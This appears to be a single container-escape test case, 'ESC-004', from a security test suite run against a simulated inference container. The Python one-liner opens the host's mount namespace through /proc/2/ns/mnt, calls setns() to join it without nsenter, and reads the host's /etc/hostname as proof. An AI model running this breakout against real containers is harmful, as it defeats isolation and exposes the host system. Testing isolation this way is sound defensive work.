# V05 ESC-004 without nsenter: python opens kthreadd's (pid 2, host) mount namespace and setns()es into it
ctr_run simctr-infer-v05 ctr-infer --mount -- python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/proc/2/ns/mnt", os.O_RDONLY)
rc = libc.setns(fd, 0x00020000)
print("setns rc", rc, "hostname", open("/etc/hostname").read().strip() if rc == 0 else ctypes.get_errno())'
